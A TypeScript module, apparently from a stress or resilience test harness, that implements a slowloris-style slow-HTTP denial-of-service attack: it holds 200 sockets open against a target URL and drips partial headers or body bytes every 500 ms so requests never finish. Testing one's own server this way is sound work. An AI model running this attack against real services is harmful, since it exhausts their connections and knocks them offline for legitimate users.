import { setTimeout as pause } from "node:timers/promises";
import { openSocket, type RawSocket } from "./raw-socket.ts";
import type { Target } from "./attacks.ts";

const SOCKETS = 200;
const DRIP_MS = 500;

export interface SlowSockets {
  open(): number;
  close(): void;
}

/** Requests that never become whole: a byte now and then, of the headers or of the body. */
export function openSlowSockets({ url, cookie }: Target, part: "headers" | "body"): SlowSockets {
  const head = `POST /api/rpc/deals/count HTTP/1.1\r\nHost: localhost\r\nCookie: ${cookie}\r\n`;
  const begin =
    part === "headers" ? head : `${head}Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{`;
  const sockets: RawSocket[] = Array.from({ length: SOCKETS }, () => openSocket(url));
  let isOver = false;
  void (async () => {
    for (const socket of sockets) await socket.send(begin);
    while (!isOver) {
      for (const socket of sockets) await socket.send(part === "headers" ? "X-Slow: a\r\n" : " ");
      await pause(DRIP_MS);
    }
  })();
  return {
    open: () => sockets.filter(({ socket }) => !socket.destroyed).length,
    close() {
      isOver = true;
      for (const { socket } of sockets) socket.destroy();
    },
  };
}
